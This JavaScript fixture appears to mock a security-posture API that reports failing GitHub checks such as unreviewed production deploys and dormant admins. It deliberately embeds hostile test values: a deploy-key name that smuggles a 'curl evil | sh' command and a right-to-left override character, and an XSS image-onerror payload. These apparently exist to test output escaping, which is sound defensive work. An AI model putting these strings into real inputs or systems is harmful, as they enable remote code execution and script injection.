// What the API answers on Posture: a little of everything, some of it written by somebody hostile.
const DAY = 86_400_000;

const checks = [
  [
    'github-production-without-reviewer',
    'Anybody who may write deploys to production',
    'critical',
    'pipelines',
  ],
  ['admin-dormant', 'An administrator has done nothing for 90 days', 'high', 'identity'],
  ['deploy-key-unused', 'A deploy key that nobody uses', 'high', 'credentials'],
  ['github-stale-approvals-stand', 'An approval stands for what is pushed after it', 'medium', 'changes'],
];

function items(now) {
  const ago = (days) => new Date(now - days * DAY).toISOString();
  const [production, dormant, key, stale] = checks.map(([check, title, severity, theme]) => ({
    check,
    title,
    severity,
    theme,
    missing: [],
    account: '',
    result: 'fails',
  }));
  return [
    {
      ...production,
      subject: 'setting environment-rules of github/acme/acme/payments/environments/production',
      resource: 'github/acme/acme/payments/environments/production',
      says: 'Runs of acme/payments reach production without anybody being asked.',
      since: ago(3),
      cause: '4812.0',
      team: 'payments-team',
    },
    {
      ...dormant,
      subject: 'account github/acme/user/17',
      resource: 'github/acme',
      account: 'github/acme/user/17',
      says: 'The account petra.h administers and has done nothing that its tool records for 211 days.',
      since: ago(121),
      cause: 'time',
      owner: { id: 'u17', name: 'Petra Hahn' },
    },
    {
      ...key,
      subject: 'credential github:deploy-key:9 on github/acme/acme/web',
      resource: 'github/acme/acme/web',
      says: 'The deploy key "; curl evil | sh; \u202egnp.x of acme/web was not used for 402 days.',
      since: ago(30),
      cause: 'first-sight',
      exception: {
        owner: 'ada',
        reason: 'goes with the next release',
        until: new Date(now + 20 * DAY).toISOString(),
        by: 'user:1',
        since: ago(2),
      },
    },
    {
      ...stale,
      result: 'unknown',
      subject: 'setting stale-reviews-dismissed of github/acme/acme/infra/branches/main',
      resource: 'github/acme/acme/infra/branches/main',
      says: 'Nobody can say; what would have to be seen is missing.',
      missing: ['listing branch-protection'],
    },
  ];
}

export function posture(asked, now) {
  const result = asked.result ?? 'fails';
  const found = items(now).filter((one) =>
    result === 'unknown'
      ? one.result === 'unknown'
      : one.result === 'fails' && (one.exception !== undefined) === (result === 'excepted'),
  );
  return {
    items: found.filter((one) => one.says.toLowerCase().includes((asked.q ?? '').toLowerCase())),
    count: found.length,
    results: { fails: 2, excepted: 1, unknown: 1, passes: 4180 },
    severities: { critical: 1, high: 1, medium: 0, low: 0 },
    checks: checks.map(([check, title, severity, theme]) => ({
      check,
      title,
      severity,
      theme,
      tools: ['github'],
      fails: 1,
      excepted: 0,
      unknown: 0,
      passes: 40,
    })),
    asked: new Date(now - 90_000).toISOString(),
  };
}

export function stands(asked, now) {
  const one = items(now).find((item) => item.check === asked.check && item.subject === asked.subject);
  if (!one) return undefined;
  const hostile = one.check === 'deploy-key-unused';
  return {
    stands: one,
    why: 'A push is then all it takes to run anything in production, with its secrets.',
    references: ['OWASP CICD-SEC-1'],
    asks: '!("required_reviewers" in value)',
    ...(one.result === 'fails' && !hostile
      ? {
          fix: '# The number of a team: gh api orgs/ORG/teams/TEAM\ngh api --method PUT repos/acme/payments/environments/production',
        }
      : {}),
    facts: [
      { name: 'place.project', value: 'acme/payments' },
      { name: 'value', value: hostile ? '<img src=x onerror=alert(1)>\u202e' : 'wait_timer' },
    ],
    history: one.since ? [{ before: 'none', after: 'fails', when: one.since, cause: one.cause }] : [],
  };
}
